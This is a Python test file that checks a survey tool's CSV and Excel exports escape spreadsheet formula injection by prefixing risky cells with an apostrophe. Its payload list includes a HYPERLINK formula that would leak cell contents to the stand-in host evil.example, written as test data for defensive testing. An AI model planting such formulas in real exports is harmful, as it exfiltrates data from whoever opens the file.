"""No respondent's text becomes a live formula in the CSV or the workbook: text a spreadsheet
would read as a formula (=, +, -, @, tab, carriage return) starts with an apostrophe."""

import pytest

from marginalia.spreadsheet_safety import neutralise
from responses.models import Comment
from tests.reports.arranging import comment_by
from tests.reports.readers import csv_rows, report_url, sheet_rows, workbook

pytestmark = pytest.mark.django_db

# What the exports must never begin a cell with, after what shows as nothing.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
INVISIBLE = "\ufeff\u200b"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\ufeff=1+1",  # after a byte order mark, as a survey's cell can arrive
    "\u200b@SUM(A1:A9)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_puts_an_apostrophe_before_a_formula(payload):
    assert neutralise(payload) == f"'{payload}"


@pytest.mark.parametrize("value", ["A fair plan.", "1.11 is vague", "", 3, None])
def test_neutralise_leaves_other_values_alone(value):
    assert neutralise(value) == value


@pytest.fixture
def payload_comments(seed):
    plan, _ = seed
    for number, payload in enumerate(PAYLOADS):
        comment = comment_by(
            plan,
            f"{payload[:10]} Trust {number}",
            text=payload,
            proposed_wording=payload,
            section=None if number % 2 else "1.11",
        )
        # Text is stored with its carriage returns made newlines (marginalia.text); the exports
        # neutralise what was stored before that rule too.
        Comment.objects.filter(pk=comment.pk).update(text=payload, proposed_wording=payload)
    return plan


def test_csv_cells_never_start_a_formula(admin_reader, payload_comments):
    rows = csv_rows(admin_reader.get(report_url("csv")))

    texts = {row["Comment"] for row in rows}
    assert {f"'{payload}" for payload in PAYLOADS} <= texts
    assert {f"'{payload}" for payload in PAYLOADS} <= {row["Proposed wording"] for row in rows}
    assert "'=HYPERLINK" in {row["Respondent"][:11] for row in rows}
    for row in rows:
        for value in row.values():
            assert not value.lstrip(INVISIBLE).startswith(FORMULA_PREFIXES)


def test_workbook_cells_hold_text_never_formulas(admin_reader, payload_comments):
    book = workbook(admin_reader.get(report_url("xlsx")))

    rows = sheet_rows(book["Comments"])
    assert {f"'{payload}" for payload in PAYLOADS} <= {row["Comment"] for row in rows}
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not cell.value.lstrip(INVISIBLE).startswith(FORMULA_PREFIXES)
